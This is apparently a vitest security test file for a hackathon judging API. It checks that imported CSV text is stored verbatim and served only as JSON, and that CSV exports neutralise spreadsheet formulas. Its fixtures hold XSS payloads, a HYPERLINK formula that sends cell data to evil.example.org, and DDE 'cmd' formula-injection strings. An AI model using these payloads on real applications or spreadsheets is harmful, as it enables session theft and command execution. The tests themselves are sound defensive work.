/**
 * Hostile text in imported data. The API stores it verbatim (U+0000 aside: U+FFFD on both engines)
 * and returns it only as JSON strings (the web app renders text, never HTML: DESIGN.md §3), and the
 * CSV exports neutralise cells that a spreadsheet would run as formulas (R79).
 */
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { INVALID_JUDGE_CODE, type JudgeAdmin, type Project } from '@podium/protocol';
import { multipart } from '../test-support/multipart.js';
import { createTestApp, type TestApp } from '../test-support/test-app.js';
import { unzip } from '../test-support/unzip.js';

let t: TestApp;
beforeEach(async () => {
  t = await createTestApp();
});
afterEach(async () => {
  await t.close();
});

/** One CSV row with every cell quoted (RFC 4180), so commas, quotes and newlines survive. */
const csvRow = (cells: readonly string[]) => cells.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',');
const upload = (url: string, rows: string[][], fields: Record<string, string> = {}) =>
  t.admin({ method: 'POST', url, ...multipart(fields, { content: rows.map(csvRow).join('\r\n') }) });

const XSS = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'';!--\"<XSS>=&{()}",
  '</textarea><iframe srcdoc="<script>parent.alert(1)</script>">',
  "{{constructor.constructor('alert(1)')()}}",
  '<a href="javascript:alert(1)">x</a>\u202e\u0000',
];
/** Text as stored: verbatim, but U+0000 becomes U+FFFD on both engines (PostgreSQL's text cannot hold it). */
const stored = (text: string) => text.replaceAll('\u0000', '\ufffd');
/** Challenge names are split on commas, so their payloads have none. */
const XSS_CHALLENGES = ['<b onmouseover=alert(1)>AI</b>', '<script>x</script>', 'javascript:alert(1)'];

describe('stored XSS through imports (incident class: stored cross-site scripting)', () => {
  it('project CSV: every text field is stored verbatim and served as JSON text', async () => {
    const rows = XSS.map((payload, i) => [
      `${payload} #${i}`,
      `description ${payload}`,
      `javascript:alert(${i})`,
      `data:text/html,${payload}`,
      `vbscript:${payload}`,
      XSS_CHALLENGES.join(','),
    ]);
    const res = await upload('/api/project/csv', rows);
    expect(res.json()).toEqual({ ok: 1, count: XSS.length, skipped: 0 });

    const list = await t.admin({ method: 'GET', url: '/api/project/list' });
    expect(list.headers['content-type']).toBe('application/json; charset=utf-8');
    const projects = list.json<Project[]>();
    projects.forEach((project, i) => {
      const row = rows[i] as string[];
      expect([project.name, project.description, project.url, project.try_link, project.video_link]).toEqual(
        row.slice(0, 5).map(stored),
      );
      expect(project.challenge_list).toEqual(XSS_CHALLENGES);
    });

    const pub = await t.app.inject({ method: 'GET', url: '/api/project/list/public' });
    expect(pub.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(pub.json<Project[]>().map((p) => p.name)).toEqual(rows.map((row) => stored(row[0] as string)));
    const challenges = await t.app.inject({ method: 'GET', url: '/api/challenges' });
    expect(challenges.json()).toEqual(XSS_CHALLENGES);
    // The raw bodies are JSON: the markup only ever appears inside escaped JSON strings.
    expect(() => JSON.parse(pub.body)).not.toThrow();
    expect(pub.body).not.toContain('\u0000');
  });

  it('hackathon-platform CSV: stored verbatim too', async () => {
    const rows = [
      [
        'Project Title',
        'Submission Url',
        'Project Status',
        'About The Project',
        '"Try it out" Links',
        'Video Demo Link',
        'Opt-In Prizes',
      ],
      [
        XSS[0] as string,
        XSS[1] as string,
        'Submitted',
        XSS[2] as string,
        XSS[3] as string,
        XSS[4] as string,
        XSS_CHALLENGES[0] as string,
      ],
    ];
    expect((await upload('/api/project/devpost', rows)).json()).toEqual({ ok: 1, count: 1, skipped: 0 });
    const [project] = await t.projects();
    expect(project).toMatchObject({
      name: XSS[0],
      url: XSS[1],
      description: XSS[2],
      try_link: XSS[3],
      video_link: XSS[4],
      challenge_list: [XSS_CHALLENGES[0]],
    });
  });

  it('judge CSV: name, email, track and notes are stored verbatim and served as JSON text', async () => {
    const track = XSS_CHALLENGES[0] as string;
    await t.admin({ method: 'POST', url: '/api/admin/tracks', payload: { tracks: [track] } });
    await t.admin({ method: 'POST', url: '/api/admin/options', payload: { judge_tracks: true } });
    const rows = XSS.map((payload, i) => [
      `${payload} #${i}`,
      `<svg/onload=alert(${i})>@evil${i}.example.org`,
      i % 2 === 0 ? track : '',
      `notes ${payload}`,
    ]);
    expect((await upload('/api/judge/csv', rows, { noSend: 'true' })).json()).toEqual({
      ok: 1,
      count: XSS.length,
      skipped: 0,
    });
    const judges = (await t.admin({ method: 'GET', url: '/api/judge/list' })).json<JudgeAdmin[]>();
    judges.forEach((judge, i) => {
      expect([judge.name, judge.email, judge.track, judge.notes]).toEqual(rows[i]?.map(stored));
    });
    // What the judge itself reads, and the audit log, carry the same text as JSON strings.
    const me = await t.loginAs(judges[0]?.id as string);
    const self = await me({ method: 'GET', url: '/api/judge' });
    expect(self.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(self.json<{ name: string }>().name).toBe(rows[0]?.[0]);
    const log = await t.admin({ method: 'GET', url: '/api/admin/log' });
    expect(log.json<{ log: string }>().log).toContain(`Judge ${rows[0]?.[0]} (`);
  });
});

describe('U+0000 in text (R95: the same answers on both engines)', () => {
  it('is stored as U+FFFD from a JSON body, and a lookup with it finds nothing: no 500', async () => {
    const id = await t.addProject({ name: 'a\u0000b', description: '\u0000' });
    expect((await t.projects()).find((project) => project.id === id)).toMatchObject({
      name: 'a\ufffdb',
      description: '\ufffd',
    });
    const login = await t.app.inject({
      method: 'POST',
      url: '/api/judge/login',
      payload: { code: '1\u0000' },
    });
    expect([login.statusCode, login.json()]).toEqual([400, { error: INVALID_JUDGE_CODE }]);
  });

  it('is read from a CSV as stored: a re-import (R86a) finds the row unchanged', async () => {
    const rows = [['Null\u0000Bot', 'about\u0000it', '']];
    expect((await upload('/api/project/csv', rows)).json()).toEqual({ ok: 1, count: 1, skipped: 0 });
    expect((await t.projects()).map((p) => [p.name, p.description])).toEqual([
      ['Null\ufffdBot', 'about\ufffdit'],
    ]);
    expect((await upload('/api/project/csv', rows, { update: 'true' })).json()).toEqual({
      ok: 1,
      count: 0,
      skipped: 0,
      updated: 0,
      unchanged: 1,
    });
  });
});

const FORMULAS = [
  '=HYPERLINK("http://evil.example.org?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

/** Every cell of every export: a leading =, +, - or @ is only allowed on a plain number. */
function expectNeutralised(name: string, text: string): string[][] {
  const rows = parse(text, { relax_column_count: true }) as string[][];
  for (const row of rows) {
    for (const cell of row) {
      if (/^[=+\-@]/.test(cell))
        expect([name, cell]).toEqual([name, expect.stringMatching(/^-?\d+(\.\d+)?$/)]);
    }
  }
  return rows;
}

describe('CSV exports neutralise formulas (incident class: CSV/formula injection)', () => {
  it('every user text in judges.csv, projects.csv, rankings.csv and the challenge ZIP starts with a quote', async () => {
    await t.admin({ method: 'POST', url: '/api/admin/tracks', payload: { tracks: ['=Track'] } });
    const projectRows = FORMULAS.map((formula) => [
      formula,
      formula,
      formula,
      formula,
      formula,
      `${formula.replace(/,/g, ';')},=Track`,
    ]);
    expect((await upload('/api/project/csv', projectRows)).statusCode).toBe(200);
    // An email cannot start with @ (R74), so that row's email starts with a plain letter.
    const judgeRows = FORMULAS.map((formula, i) => [
      formula,
      `${formula[0] === '@' ? '' : formula[0]}x${i}@x.org`,
      i === 0 ? '=Track' : '',
      formula,
    ]);
    expect((await upload('/api/judge/csv', judgeRows, { noSend: '1' })).statusCode).toBe(200);

    // Judges see and rank projects, so rankings.csv and the scores (negative numbers) have rows.
    await t.admin({ method: 'POST', url: '/api/admin/clock/unpause' });
    for (const judge of await t.judges()) {
      const client = await t.loginAs(judge.id);
      const seen: string[] = [];
      for (let i = 0; i < 2; i += 1) {
        const next = (await client({ method: 'POST', url: '/api/judge/next' })).json<{
          project_id?: string;
        }>();
        if (next.project_id === undefined) break;
        seen.push(next.project_id);
        await client({ method: 'POST', url: '/api/judge/finish', payload: { notes: FORMULAS[i] } });
      }
      await client({ method: 'POST', url: '/api/judge/rank', payload: { ranking: seen.slice(0, 1) } });
    }

    const judgesCsv = await t.admin({ method: 'GET', url: '/api/admin/export/judges' });
    const judgeCells = expectNeutralised('judges.csv', judgesCsv.body);
    expect(judgeCells[1]?.slice(0, 3)).toEqual([`'${FORMULAS[0]}`, `'=x0@x.org`, `'${FORMULAS[0]}`]);
    expect(judgeCells[1]?.[8]).toBe("'=Track");

    const projectsCsv = await t.admin({ method: 'GET', url: '/api/admin/export/projects' });
    const projectCells = expectNeutralised('projects.csv', projectsCsv.body);
    expect(projectCells[1]?.slice(0, 1)).toEqual([`'${FORMULAS[0]}`]);
    expect(projectCells[1]?.slice(2, 6)).toEqual(Array(4).fill(`'${FORMULAS[0]}`));
    expect(projectCells.slice(1).some((row) => Number(row[10]) < 0)).toBe(true);

    const rankingsCsv = await t.admin({ method: 'GET', url: '/api/admin/export/rankings' });
    expect(expectNeutralised('rankings.csv', rankingsCsv.body).length).toBeGreaterThan(1);

    const zip = await t.admin({ method: 'GET', url: '/api/admin/export/challenges' });
    const entries = unzip(zip.rawPayload);
    expect(entries.length).toBeGreaterThan(1);
    for (const entry of entries) expectNeutralised(entry.name, entry.content.toString('utf8'));

    // The stored values stay verbatim: the guard exists only in the exported files.
    expect((await t.projects())[0]?.name).toBe(FORMULAS[0]);
  });
});
